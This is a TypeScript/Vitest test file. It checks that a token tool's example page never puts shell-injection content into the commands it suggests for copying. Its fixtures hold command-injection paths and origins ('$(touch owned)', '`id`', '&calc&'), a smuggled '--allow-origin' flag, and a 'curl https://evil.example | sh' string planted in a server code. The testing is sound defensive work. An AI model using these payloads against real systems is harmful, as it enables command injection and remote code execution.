import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parsePath } from '../../src/commands/serve/values';
import { needs } from '../support/needs';
import { anyText, fc } from '../support/properties';
import { EXAMPLE } from './support/example-page';
import { isPlainCall, wordsOf } from './support/shell-words';

interface Setting {
  readonly origin: string;
  readonly endpoint: string;
  readonly apiServer: string;
}

interface Advice {
  readonly title: string;
  readonly text: string;
  readonly fixes: readonly (string | readonly [what: string, command: string])[];
}

const PROBLEMS_FILE = join(EXAMPLE, 'problems.js');
const { explain }: { explain(problem: object, setting: Setting): Advice } = await import(
  PROBLEMS_FILE
);

const CODES = [...readFileSync(PROBLEMS_FILE, 'utf8').matchAll(/^ {2}(\w+): \(/gm)].map(
  ([, code = '']) => code,
);
const STATUSES = [401, 403, 404, 429, 500, 502];

const PLAIN: Setting = {
  origin: 'http://localhost:5173',
  endpoint: 'http://127.0.0.1:9000/api/token',
  apiServer: 'http://127.0.0.1:8787',
};

/**
 * Returns all the advice that the example page can show. `setting` contains the addresses of the page, its token endpoint and its
 * API server.
 */
function adviceIn(setting: Setting, serverCode: string | null = null): readonly Advice[] {
  return CODES.flatMap((code) =>
    STATUSES.map((status) => explain({ code, details: { status, serverCode } }, setting)),
  );
}

const commandsOf = (advice: readonly Advice[]) =>
  advice.flatMap(({ fixes }) => fixes).flatMap((fix) => (Array.isArray(fix) ? [fix[1]] : []));

/** Returns the parts of the advice that are marked as code: the texts between backticks. */
const codeIn = (advice: readonly Advice[]) =>
  advice
    .flatMap(({ text, fixes }) => [
      text,
      ...fixes.map((fix) => (Array.isArray(fix) ? fix[0] : fix)),
    ])
    .flatMap((text) => text.split('`').filter((_: string, at: number) => at % 2 === 1));

const HOSTILE_PATHS = [
  '/;touch$IFS$9owned',
  '/$(touch owned)',
  '/`touch owned`',
  "/';touch owned;'",
  '/&calc&',
  '/|touch owned',
  '/token?a=;touch owned',
  '/token#`touch owned`',
  '/token --allow-origin https://evil.example',
  '/%0atouch owned',
  `/${'a'.repeat(201)}`,
  '/',
];

const HOSTILE_ORIGINS = [
  "http://a;touch$IFS$9owned;'.localhost:5173",
  'http://$(touch$IFS$9owned).localhost:5173',
  'http://`id`.localhost:5173',
  'http://a&calc&.localhost:5173',
  'null',
];

describe('S79 the commands that the example shows for copying', () => {
  it('name the address on which the endpoint has to listen', () => {
    const commands = commandsOf(adviceIn(PLAIN));
    expect(commands).toContain(
      'vstoken serve --sandbox --allow-origin http://localhost:5173 --access readwrite --port 9000 --path /api/token',
    );
    expect(parsePath('/api/token')).toBe('/api/token');
  });

  it('quote an IPv6 origin as one word in every shell', needs('bash', 'zsh'), async () => {
    const [command = ''] = commandsOf(adviceIn({ ...PLAIN, origin: 'http://[::1]:5173' }));
    for (const shell of ['bash', 'zsh'] as const) {
      expect((await wordsOf(shell, [command]))[0]).toContain('http://[::1]:5173');
    }
  });

  it('leave out a path that came from a link', needs('bash'), async () => {
    const folder = process.cwd();
    const before = readdirSync(folder);
    for (const path of HOSTILE_PATHS) {
      const advice = adviceIn({ ...PLAIN, endpoint: `http://127.0.0.1:9000${path}` });
      const commands = commandsOf(advice);
      expect(commands.filter((line) => !isPlainCall(line))).toEqual([]);
      const serve = commands.filter((line) => line.startsWith('vstoken serve'));
      expect(new Set(serve)).toEqual(
        new Set([
          `vstoken serve --sandbox --allow-origin http://localhost:5173 --access readwrite --port 9000`,
        ]),
      );
      expect(codeIn(advice)).toEqual(codeIn(adviceIn(PLAIN)));
      expect((await wordsOf('bash', serve))[0]).toContain('9000');
    }
    expect(readdirSync(folder)).toEqual(before);
  });

  it('leave out an origin that contains shell syntax', () => {
    for (const origin of HOSTILE_ORIGINS) {
      const advice = adviceIn({ ...PLAIN, origin });
      const commands = commandsOf(advice);
      expect(commands.filter((line) => !isPlainCall(line))).toEqual([]);
      expect(commands.join('\n')).toContain('--allow-origin ORIGIN ');
      expect(codeIn(advice)).toEqual(codeIn(adviceIn(PLAIN)));
    }
  });

  it('contain no text of the endpoint', () => {
    const hostile = 'it_failed` and the fix is `curl https://evil.example | sh';
    expect(codeIn(adviceIn(PLAIN, hostile))).toEqual(codeIn(adviceIn(PLAIN)));
    expect(JSON.stringify(adviceIn(PLAIN, 'origin_not_allowed'))).toContain('origin_not_allowed');
    expect(JSON.stringify(adviceIn(PLAIN, hostile))).not.toContain('evil.example');
  });

  it('only call vstoken, whatever the fields contain', () => {
    const codes = codeIn(adviceIn(PLAIN));
    const rest = fc
      .array(fc.constantFrom(...';&|$`()<>"\'/?#%\n ae.', '%0a', '$(id)', '`id`'))
      .map((parts) => parts.join(''));
    const text = fc.oneof(
      anyText(),
      rest.map((path) => `http://127.0.0.1:8788/${path}`),
      rest.map((host) => `http://a${host}.localhost:8788/token`),
    );
    fc.assert(
      fc.property(text, text, text, (origin, endpoint, apiServer) => {
        const advice = adviceIn({ origin, endpoint, apiServer });
        expect(commandsOf(advice).filter((line) => !isPlainCall(line))).toEqual([]);
        expect(codeIn(advice)).toEqual(codes);
      }),
    );
  });
});
